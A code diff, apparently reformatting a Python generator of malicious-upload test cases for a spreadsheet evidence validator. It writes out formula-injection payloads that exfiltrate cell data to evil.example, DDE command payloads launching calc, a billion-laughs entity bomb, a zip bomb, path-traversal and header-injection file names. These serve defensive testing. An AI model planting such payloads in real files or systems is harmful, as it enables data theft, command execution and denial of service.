@@ -53,6 +53,7 @@ class Case:
 
 # -- building blocks ---------------------------------------------------------------------------------
 
+
 def rows(org: Organisation, dept_id: str, seed: int = 3) -> list[dict]:
     return good_rows(org, org.department(dept_id), random.Random(seed), partial_share=0.0)
 
@@ -61,8 +62,12 @@ def request(org: Organisation, dept_id: str) -> bytes:
     return RequestWorkbook(org, org.department(dept_id)).to_bytes()
 
 
-def good(org: Organisation, dept_id: str, change: Callable[[list[dict]], list[dict]] | None = None,
-         mutate: Callable[[object], None] | None = None) -> bytes:
+def good(
+    org: Organisation,
+    dept_id: str,
+    change: Callable[[list[dict]], list[dict]] | None = None,
+    mutate: Callable[[object], None] | None = None,
+) -> bytes:
     """The department's request workbook filled with good rows (optionally changed first)."""
     r = rows(org, dept_id)
     return fill(request(org, dept_id), change(r) if change else r, mutate)
@@ -74,8 +79,12 @@ def with_bad_row(r: list[dict]) -> list[dict]:
     return r
 
 
-def rezip(data: bytes, change: Callable[[str, bytes], bytes | None] = lambda n, c: c, extra: dict[str, bytes] | None = None,
-          compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+def rezip(
+    data: bytes,
+    change: Callable[[str, bytes], bytes | None] = lambda n, c: c,
+    extra: dict[str, bytes] | None = None,
+    compression: int = zipfile.ZIP_DEFLATED,
+) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", compression) as dst:
         for info in src.infolist():
@@ -102,14 +111,25 @@ def plain(headers: list[str], table: list[list], sheet: str = "Evidence") -> byt
     return buf.getvalue()
 
 
-def csv_bytes(org: Organisation, dept_id: str, encoding: str = "utf-8", header_only: bool = False, title_suffix: str = "") -> bytes:
+def csv_bytes(
+    org: Organisation, dept_id: str, encoding: str = "utf-8", header_only: bool = False, title_suffix: str = ""
+) -> bytes:
     buf = io.StringIO()
     w = csv.writer(buf)
     w.writerow(HEADERS)
     if not header_only:
         for r in rows(org, dept_id, 5):
-            w.writerow([r["element_id"], r["evidence_title"] + title_suffix, r["evidence_type"], r["link"],
-                        r["evidence_date"].strftime("%d/%m/%Y"), r["owner"], r["self_rating"]])
+            w.writerow(
+                [
+                    r["element_id"],
+                    r["evidence_title"] + title_suffix,
+                    r["evidence_type"],
+                    r["link"],
+                    r["evidence_date"].strftime("%d/%m/%Y"),
+                    r["owner"],
+                    r["self_rating"],
+                ]
+            )
     text = buf.getvalue()
     return (b"\xef\xbb\xbf" + text.encode("utf-8")) if encoding == "utf-8-sig" else text.encode(encoding)
 
@@ -133,16 +153,29 @@ def cfb(streams: dict[str, bytes]) -> bytes:
 
     def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
         raw = (name + "\x00").encode("utf-16-le") if name else b""
-        return (raw.ljust(64, b"\x00") + struct.pack("<HBB3I", len(raw), kind, 1, nostream, right, child)
-                + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16 + struct.pack("<IQ", start, size))
+        return (
+            raw.ljust(64, b"\x00")
+            + struct.pack("<HBB3I", len(raw), kind, 1, nostream, right, child)
+            + b"\x00" * 16
+            + b"\x00" * 4
+            + b"\x00" * 16
+            + struct.pack("<IQ", start, size)
+        )
 
     names = list(streams)
     directory = entry("Root Entry", 5, 1, nostream, end, 0)
     for i, (name, body) in enumerate(zip(names, streams.values(), strict=True)):
         directory += entry(name, 2, nostream, i + 2 if i + 1 < len(names) else nostream, starts[i], len(body))
     directory = directory.ljust(512, b"\x00")
-    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
-              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
+    header = (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + b"\x00" * 16
+        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+        + b"\x00" * 6
+        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
+        + struct.pack("<I", 0)
+        + struct.pack("<I", free) * 108
+    )
     assert len(header) == 512
     return header + struct.pack("<128I", *fat) + directory + b"".join(bodies)
 
@@ -157,66 +190,161 @@ def _live_formulas(wb) -> None:  # type: ignore[no-untyped-def]
     header = {c.value: c.column for c in ws[1]}
     ws.cell(row=2, column=header["Notes"]).value = '=HYPERLINK("https://evil.example/steal?c="&A1,"details")'
     ws.cell(row=3, column=header["Notes"]).value = "=1+1"
-    ws.cell(row=4, column=header["Evidence owner"]).value = '=cmd|\' /C calc\'!A0'
+    ws.cell(row=4, column=header["Evidence owner"]).value = "=cmd|' /C calc'!A0"
 
 
 # -- the corpus --------------------------------------------------------------------------------------
+
 
 def cases(org: Organisation, outside: Path) -> list[Case]:
     small = plain(HEADERS, [["4.1.1", "x", "Document", "x.pdf", "01/06/2026", "A", "Compliance"]])
     good_housing = good(org, "housing")
     dup = good(org, "revenues-benefits")
     long_title = "Customer journey mapping workshop " * 40  # about 1,360 characters
-    strict = rezip(small, lambda n, c: c.replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
-                                                  b"http://purl.oclc.org/ooxml/spreadsheetml/main") if n == "xl/workbook.xml" else c)
+    strict = rezip(
+        small,
+        lambda n, c: (
+            c.replace(
+                b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"
+            )
+            if n == "xl/workbook.xml"
+            else c
+        ),
+    )
     corrupt = bytearray(good(org, "people-od"))
     with zipfile.ZipFile(io.BytesIO(bytes(corrupt))) as zf:
         info = zf.getinfo("xl/worksheets/sheet1.xml")
     middle = info.header_offset + 30 + len(info.filename) + info.compress_size // 2
-    corrupt[middle:middle + 64] = bytes(64)
-    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
-        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
-    ) + b']><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&lol9;" sheetId="1"/></sheets></workbook>'
+    corrupt[middle : middle + 64] = bytes(64)
+    laughs = (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+        + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
+        + b']><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&lol9;" sheetId="1"/></sheets></workbook>'
+    )
     hidden = good(org, "childrens-services", mutate=lambda wb: _hidden_sheet(wb))
     merged = good(org, "communications", mutate=lambda wb: wb[layout.EVIDENCE_SHEET].merge_cells("F2:F4"))
-    external = rezip(good(org, "complaints-legal"), extra={
-        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
-        "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/budget.xlsx" TargetMode="External"/></Relationships>',
-    })
+    external = rezip(
+        good(org, "complaints-legal"),
+        extra={
+            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
+            "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/budget.xlsx" TargetMode="External"/></Relationships>',
+        },
+    )
     title = rows(org, "adult-social-care")[0]["evidence_title"].encode()
-    nul_xlsx = rezip(good(org, "adult-social-care"), lambda n, c: c.replace(title, title[:8] + b"\x00\x01" + title[8:], 1) if n == "xl/sharedStrings.xml" else c)
+    nul_xlsx = rezip(
+        good(org, "adult-social-care"),
+        lambda n, c: c.replace(title, title[:8] + b"\x00\x01" + title[8:], 1) if n == "xl/sharedStrings.xml" else c,
+    )
     nul_csv = csv_bytes(org, "waste-environment").replace(b"\r\n", b"\x00\r\n", 2)
     return [
         Case("corrupt_zip", "people-od-evidence-2027.xlsx", bytes(corrupt)),
         Case("truncated", "housing-evidence-truncated.xlsx", good_housing[: len(good_housing) * 2 // 3]),
         Case("xls_renamed_xlsx", "childrens-services-old.xlsx", cfb({"Workbook": b"\x09\x08" + b"\x00" * 600})),
-        Case("xlsm_macro", "waste-environment-evidence.xlsm", rezip(good(org, "waste-environment"), lambda n, c: c.replace(
-            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
-            if n == "[Content_Types].xml" else c, extra={"xl/vbaProject.bin": cfb({"VBA": b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nEnd Sub"})})),
-        Case("password_protected", "complaints-legal-locked.xlsx", cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml version=\"1.0\"?><encryption/>",
-                                                                          "EncryptedPackage": struct.pack("<Q", 9000) + random.Random(1).randbytes(4000)})),
+        Case(
+            "xlsm_macro",
+            "waste-environment-evidence.xlsm",
+            rezip(
+                good(org, "waste-environment"),
+                lambda n, c: (
+                    c.replace(
+                        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+                        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+                    )
+                    if n == "[Content_Types].xml"
+                    else c
+                ),
+                extra={"xl/vbaProject.bin": cfb({"VBA": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nEnd Sub'})},
+            ),
+        ),
+        Case(
+            "password_protected",
+            "complaints-legal-locked.xlsx",
+            cfb(
+                {
+                    "EncryptionInfo": b'\x04\x00\x04\x00\x40\x00\x00\x00<?xml version="1.0"?><encryption/>',
+                    "EncryptedPackage": struct.pack("<Q", 9000) + random.Random(1).randbytes(4000),
+                }
+            ),
+        ),
         Case("zip_bomb", "digital-evidence-bomb.xlsx", rezip(small, extra={"xl/media/image1.xml": b"\x00" * 50_000_000})),
-        Case("million_rows", "libraries-culture-million.xlsx", _sheet_xml(small, lambda c: c.replace(b'<dimension ref="A1:G2"', b'<dimension ref="A1:G1048576"').replace(
-            b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>end</t></is></c></row></sheetData>'))),
-        Case("sixteen_k_columns", "revenues-benefits-wide.xlsx", _sheet_xml(small, lambda c: c.replace(b'<dimension ref="A1:G2"', b'<dimension ref="A1:XFD2"').replace(
-            b"</row></sheetData>", b'<c r="WZZ2" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'))),
+        Case(
+            "million_rows",
+            "libraries-culture-million.xlsx",
+            _sheet_xml(
+                small,
+                lambda c: c.replace(b'<dimension ref="A1:G2"', b'<dimension ref="A1:G1048576"').replace(
+                    b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>end</t></is></c></row></sheetData>'
+                ),
+            ),
+        ),
+        Case(
+            "sixteen_k_columns",
+            "revenues-benefits-wide.xlsx",
+            _sheet_xml(
+                small,
+                lambda c: c.replace(b'<dimension ref="A1:G2"', b'<dimension ref="A1:XFD2"').replace(
+                    b"</row></sheetData>", b'<c r="WZZ2" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'
+                ),
+            ),
+        ),
         Case("live_formulas", "customer-services-formulas.xlsx", good(org, "customer-services", with_bad_row, _live_formulas)),
-        Case("inject_hyperlink", "policy-insight-hyperlink.xlsx", good(org, "policy-insight", lambda r: with_bad_row(
-            [r[0] | {"evidence_title": '=HYPERLINK("https://evil.example/x?d="&A1,"Open the evidence")'}, *r[1:]]))),
-        Case("inject_dde", "people-od-dde.csv", _csv_rows(org, "people-od", {"evidence_title": "=cmd|' /C calc'!A0", "owner": "=cmd|' /C calc'!A0"}, bad_last=True)),
-        Case("inject_at", "digital-at-sum.xlsx", good(org, "digital", lambda r: with_bad_row([r[0] | {"evidence_title": "@SUM(1+1)*cmd|' /C calc'!A0"}, *r[1:]]))),
-        Case("inject_plus", "housing-plus.xlsx", good(org, "housing", lambda r: with_bad_row([r[0] | {"evidence_title": "+1", "owner": "+44 1632 960000"}, *r[1:]]))),
-        Case("inject_minus", "libraries-culture-minus.xlsx", good(org, "libraries-culture", lambda r: with_bad_row([r[0] | {"evidence_title": "-1", "notes": "-2+3"}, *r[1:]]))),
+        Case(
+            "inject_hyperlink",
+            "policy-insight-hyperlink.xlsx",
+            good(
+                org,
+                "policy-insight",
+                lambda r: with_bad_row(
+                    [r[0] | {"evidence_title": '=HYPERLINK("https://evil.example/x?d="&A1,"Open the evidence")'}, *r[1:]]
+                ),
+            ),
+        ),
+        Case(
+            "inject_dde",
+            "people-od-dde.csv",
+            _csv_rows(org, "people-od", {"evidence_title": "=cmd|' /C calc'!A0", "owner": "=cmd|' /C calc'!A0"}, bad_last=True),
+        ),
+        Case(
+            "inject_at",
+            "digital-at-sum.xlsx",
+            good(org, "digital", lambda r: with_bad_row([r[0] | {"evidence_title": "@SUM(1+1)*cmd|' /C calc'!A0"}, *r[1:]])),
+        ),
+        Case(
+            "inject_plus",
+            "housing-plus.xlsx",
+            good(org, "housing", lambda r: with_bad_row([r[0] | {"evidence_title": "+1", "owner": "+44 1632 960000"}, *r[1:]])),
+        ),
+        Case(
+            "inject_minus",
+            "libraries-culture-minus.xlsx",
+            good(org, "libraries-culture", lambda r: with_bad_row([r[0] | {"evidence_title": "-1", "notes": "-2+3"}, *r[1:]])),
+        ),
         Case("external_links", "complaints-legal-evidence-links.xlsx", external),
         Case("hidden_sheet", "childrens-services-evidence-hidden.xlsx", hidden),
         Case("merged_cells", "communications-evidence-merged.xlsx", merged),
         Case("csv_cp1252", "libraries-culture-cp1252.csv", csv_bytes(org, "libraries-culture", "cp1252", title_suffix=" – café")),
         Case("csv_bom", "waste-environment-bom.csv", csv_bytes(org, "waste-environment", "utf-8-sig")),
         Case("csv_utf16", "housing-utf16.csv", csv_bytes(org, "housing", "utf-16")),
-        Case("long_cells", "customer-services-long.xlsx", good(org, "customer-services", lambda r: [r[0] | {"evidence_title": long_title}, r[1] | {"notes": "n" * 5000}, *r[2:]])),
-        Case("emoji_rtl", "policy-insight-emoji-\u202egnp.xlsx", good(org, "policy-insight", lambda r: [
-            r[0] | {"evidence_title": "Customer panel 🎉👍🏽 feedback", "owner": "Laura Chen 🙂"},
-            r[1] | {"evidence_title": "استطلاع رضا العملاء (survey in Arabic) שאלון"}, *r[2:]])),
+        Case(
+            "long_cells",
+            "customer-services-long.xlsx",
+            good(
+                org, "customer-services", lambda r: [r[0] | {"evidence_title": long_title}, r[1] | {"notes": "n" * 5000}, *r[2:]]
+            ),
+        ),
+        Case(
+            "emoji_rtl",
+            "policy-insight-emoji-\u202egnp.xlsx",
+            good(
+                org,
+                "policy-insight",
+                lambda r: [
+                    r[0] | {"evidence_title": "Customer panel 🎉👍🏽 feedback", "owner": "Laura Chen 🙂"},
+                    r[1] | {"evidence_title": "استطلاع رضا العملاء (survey in Arabic) שאלון"},
+                    *r[2:],
+                ],
+            ),
+        ),
         Case("name_windows_path", "C:\\Users\\ben\\..\\..\\Windows\\housing-evidence.xlsx", good_housing),
         Case("name_newline", "digital-evidence\r\nBcc: attacker@evil.example.xlsx", good(org, "digital")),
         Case("name_very_long", "communications-" + "evidence-" * 26 + ".xlsx", good(org, "communications")),
@@ -225,20 +353,43 @@ def cases(org: Organisation, outside: Path) -> list[Case]:
         Case("outside_relative", "../../x.xlsx", good(org, "housing"), where="outside-relative"),
         Case("outside_absolute", str(outside / "absolute-housing.xlsx"), good(org, "housing"), where="outside-absolute"),
         Case("symlink_outside", "housing-evidence-link.xlsx", symlink_to=outside / "secret.txt"),
-        Case("wrong_department", "finance-return.xlsx", fill(request(org, "housing"), rows(org, "housing"), lambda wb: _meta(wb, department_id="parks-gardens"))),
-        Case("wrong_year", "customer-services-2026.xlsx", fill(request(org, "customer-services"), rows(org, "customer-services"),
-                                                                lambda wb: _meta(wb, assessment_year="2026", request_reference="REQ-2026-customer-services"))),
+        Case(
+            "wrong_department",
+            "finance-return.xlsx",
+            fill(request(org, "housing"), rows(org, "housing"), lambda wb: _meta(wb, department_id="parks-gardens")),
+        ),
+        Case(
+            "wrong_year",
+            "customer-services-2026.xlsx",
+            fill(
+                request(org, "customer-services"),
+                rows(org, "customer-services"),
+                lambda wb: _meta(wb, assessment_year="2026", request_reference="REQ-2026-customer-services"),
+            ),
+        ),
         Case("empty_file", "digital-evidence-empty.xlsx", b""),
         Case("duplicate_first", "revenues-benefits-evidence.xlsx", dup),
         Case("duplicate_again", "revenues-benefits-evidence (1).xlsx", dup),
         Case("strict_ooxml", "adult-social-care-strict.xlsx", strict),
-        Case("zero_sheets", "waste-environment-nosheets.xlsx", rezip(small, lambda n, c: (
-            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>') if n == "xl/workbook.xml" else c)),
+        Case(
+            "zero_sheets",
+            "waste-environment-nosheets.xlsx",
+            rezip(
+                small,
+                lambda n, c: (
+                    (b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>')
+                    if n == "xl/workbook.xml"
+                    else c
+                ),
+            ),
+        ),
         Case("headers_only_sheet", "people-od-headers.xlsx", plain(HEADERS, [])),
         Case("csv_header_only", "policy-insight-header.csv", csv_bytes(org, "policy-insight", header_only=True)),
         Case("nul_csv", "waste-environment-nul.csv", nul_csv),
         Case("nul_xlsx", "adult-social-care-nul.xlsx", nul_xlsx),
-        Case("billion_laughs", "libraries-culture-laughs.xlsx", rezip(small, lambda n, c: laughs if n == "xl/workbook.xml" else c)),
+        Case(
+            "billion_laughs", "libraries-culture-laughs.xlsx", rezip(small, lambda n, c: laughs if n == "xl/workbook.xml" else c)
+        ),
         Case("zip_not_workbook", "communications-archive.xlsx", _zip({"readme.txt": b"not a workbook"})),
         Case("pdf", "housing-evidence.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
     ]
@@ -253,7 +404,17 @@ def _csv_rows(org: Organisation, dept_id: str, first: dict, bad_last: bool = Fal
     if bad_last:
         r = with_bad_row(r)
     for x in r:
-        w.writerow([x["element_id"], x["evidence_title"], x["evidence_type"], x["link"], x["evidence_date"].strftime("%d/%m/%Y"), x["owner"], x["self_rating"]])
+        w.writerow(
+            [
+                x["element_id"],
+                x["evidence_title"],
+                x["evidence_type"],
+                x["link"],
+                x["evidence_date"].strftime("%d/%m/%Y"),
+                x["owner"],
+                x["self_rating"],
+            ]
+        )
     return buf.getvalue().encode("utf-8")
 
 
@@ -328,4 +489,3 @@ def main() -> None:
 
 if __name__ == "__main__":
     main()
-
